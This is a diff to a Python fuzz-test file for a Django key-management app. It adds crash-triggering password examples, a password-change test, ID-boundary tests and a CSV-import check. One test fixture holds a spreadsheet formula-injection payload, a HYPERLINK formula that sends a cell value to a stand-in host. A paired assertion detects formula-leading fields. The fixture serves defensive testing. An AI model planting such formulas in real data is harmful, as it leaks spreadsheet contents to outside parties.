@@ -3,6 +3,11 @@ password: never a 5xx, never a partial write.
 
 Examples per test: KAMKEYS_HYPOTHESIS_EXAMPLES (default 200); KAMKEYS_HYPOTHESIS_DEEP=1 runs at
 least 1,000 per test (11 tests: over 10,000 inputs in total).
+
+Repeatable (profiles in tests/conftest.py): under CI=true the inputs are derandomized, the same
+on every run; elsewhere each run explores new ones and the .hypothesis/ database replays any
+failure first next time. Every failure ever found is pinned below with @example, so it replays
+everywhere, in CI too, whatever the profile draws.
 """
 
 from __future__ import annotations
@@ -16,10 +21,10 @@ from typing import Any
 import pytest
 from allauth.account.models import EmailAddress
 from django.core.cache import cache
-from django.db.models import Model
+from django.db.models import Model, Q
 from django.test import Client
 from django.urls import reverse
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from accounts.models import AccessRequest, Organization, User
@@ -34,7 +39,14 @@ from keyvault.models import AuditEvent, DeviceKey
 from readrights.invitation_views import SESSION_LINK_KEY
 from readrights.models import Invitation, ReadRight
 from readrights.services import assign_read_rights, clean_emails
-from tests.factories import DeviceFactory, OrganizationFactory, login, make_member, make_super_user
+from tests.factories import (
+    DEFAULT_PASSWORD,
+    DeviceFactory,
+    OrganizationFactory,
+    login,
+    make_member,
+    make_super_user,
+)
 from tests.hardening.conftest import add_figure
 
 EXAMPLES = int(os.environ.get("KAMKEYS_HYPOTHESIS_EXAMPLES", "200"))
@@ -45,8 +57,12 @@ FUZZ = settings(
     max_examples=EXAMPLES,
     deadline=None,
     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
-    database=None,
 )
+
+# Passwords that made the strength check (zxcvbn) raise: a 500 on every form that judged them.
+CRASHED_ZXCVBN = "00000\n"  # its date matcher: `$` matches before the line break
+PAST_ZXCVBN_LIMIT = "violet tractor umbrella 42, heron lantern quartz 97, meadow copper fjords"
+OVER_THE_CAP = "Quartz-Lantern-Meadow-47! " * 6  # 156 characters
 
 # --- strategies ---------------------------------------------------------------------------------
 
@@ -166,6 +182,10 @@ def test_complete_registration_is_whole_or_nothing(tally: Tally) -> None:
 
     @FUZZ
     @given(name=JUNK, password=JUNK, repeat=st.one_of(st.none(), JUNK))
+    @example(name="", password=CRASHED_ZXCVBN, repeat=None)
+    @example(name="Fresh", password="Quartz-Lantern-19991231\n", repeat=None)
+    @example(name="", password=PAST_ZXCVBN_LIMIT, repeat=None)
+    @example(name="", password=OVER_THE_CAP, repeat=None)
     def attempt(name: str, password: str, repeat: str | None) -> None:
         cache.clear()
         email = f"fresh{next(_unique)}@registration.example"
@@ -186,6 +206,42 @@ def test_complete_registration_is_whole_or_nothing(tally: Tally) -> None:
             assert EmailAddress.objects.filter(email=email, verified=True).exists()
         else:
             assert counts(User, EmailAddress) == before
+
+    attempt()
+
+
+@pytest.mark.django_db
+def test_password_change_is_whole_or_nothing(tally: Tally) -> None:
+    user = make_member(OrganizationFactory(), email="changer@utility.example", name="Chang Er")
+    original = user.password
+    url = reverse("account_change_password")
+
+    @FUZZ
+    @given(
+        old=st.one_of(st.just(DEFAULT_PASSWORD), JUNK),
+        password=st.one_of(JUNK, st.just("Kx9!vertical-Lamp-42")),
+        repeat=st.one_of(st.none(), JUNK),
+    )
+    @example(old=DEFAULT_PASSWORD, password=CRASHED_ZXCVBN, repeat=None)
+    @example(old=DEFAULT_PASSWORD, password="Quartz-Lantern-19991231\n", repeat=None)
+    @example(old=DEFAULT_PASSWORD, password=PAST_ZXCVBN_LIMIT, repeat=None)
+    @example(old=DEFAULT_PASSWORD, password=OVER_THE_CAP, repeat=None)
+    def attempt(old: str, password: str, repeat: str | None) -> None:
+        cache.clear()
+        User.objects.filter(pk=user.pk).update(password=original)
+        user.refresh_from_db()
+        data = {
+            "oldpassword": old,
+            "password1": password,
+            "password2": password if repeat is None else repeat,
+        }
+        status = tally.status(_client(user), "POST", url, data)
+        assert status < 500, f"password change with {data!r} → {status}"
+        user.refresh_from_db()
+        if status == 302:
+            assert user.check_password(password)
+        else:
+            assert user.password == original, "a refused password change changed the password"
 
     attempt()
 
@@ -322,6 +378,12 @@ def test_file_password_and_format_never_fail(tally: Tally, distributor) -> None:
         password=st.one_of(JUNK, st.text(min_size=1, max_size=20)),
         repeat=st.one_of(st.none(), JUNK),
     )
+    @example(fmt="zip", password=PAST_ZXCVBN_LIMIT, repeat=None)
+    @example(fmt="zip", password=OVER_THE_CAP, repeat=None)
+    @example(fmt="zip", password=CRASHED_ZXCVBN, repeat=None)
+    @example(fmt="zip", password="Quartz-Lantern-19991231\n", repeat=None)
+    @example(fmt="kem", password="a", repeat=None)
+    @example(fmt="kem", password=CRASHED_ZXCVBN, repeat=None)
     def attempt(fmt: str, password: str, repeat: str | None) -> None:
         cache.clear()
         downloads = AuditEvent.objects.filter(action="download").count()
@@ -408,6 +470,9 @@ def test_invitation_acceptance_is_whole_or_nothing(tally: Tally, distributor) ->
         password=st.one_of(JUNK, st.just("Kx9!vertical-Lamp-42")),
         repeat=st.one_of(st.none(), JUNK),
     )
+    @example(name="New Customer", password=CRASHED_ZXCVBN, repeat=None)
+    @example(name="", password=PAST_ZXCVBN_LIMIT, repeat=None)
+    @example(name="", password=OVER_THE_CAP, repeat=None)
     def attempt(name: str, password: str, repeat: str | None) -> None:
         cache.clear()
         client = _client()
@@ -493,6 +558,11 @@ def _check_import(tally: Tally, data: bytes, owner: Organization, fmt: str, pw: 
     assert after[1] - before[1] == report.keys
     if report.imported:
         assert after[2] - before[2] == 1, "an import is audited once"
+    formulas = Q()
+    for start in ("=", "+", "-", "@"):
+        for field in ("device_type", "order_no", "type_no", "config_no", "consumption_type"):
+            formulas |= Q(**{f"{field}__startswith": start})
+    assert not Device.objects.filter(formulas).exists(), "an import stored a spreadsheet formula"
 
 
 @pytest.mark.django_db
@@ -501,6 +571,12 @@ def test_csv_import_never_crashes_and_is_all_or_nothing(tally: Tally) -> None:
 
     @FUZZ
     @given(data=csv_files())
+    @example(
+        data=b"serial,device_code,type,dek,order_no\n"
+        + b"10000001,01,MULTICAL 21,"
+        + b"ab" * 16
+        + b',"=HYPERLINK(""http://x/?""&E2)"\n'
+    )
     def attempt(data: bytes) -> None:
         _check_import(tally, data, owner, "csv", None)
 
@@ -654,6 +730,15 @@ def test_user_administration_search_with_a_nul_byte_is_not_a_server_error(distri
     client = _client(distributor["super"])
     response = client.get(reverse("readrights:user_admin"), {"q": "a\x00b"})
     assert response.status_code == 200
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("grantee", ["9223372036854775808", "-1", "0", "1" * 40])
+def test_revoking_for_a_customer_id_beyond_any_database_id_is_a_404(distributor, grantee) -> None:  # noqa: ANN001
+    client = _client(distributor["super"])
+    _select(client, distributor["devices"])
+    response = client.post(reverse("readrights:revoke"), {"grantee": grantee, "scope": "all"})
+    assert response.status_code == 404
 
 
 @pytest.mark.django_db
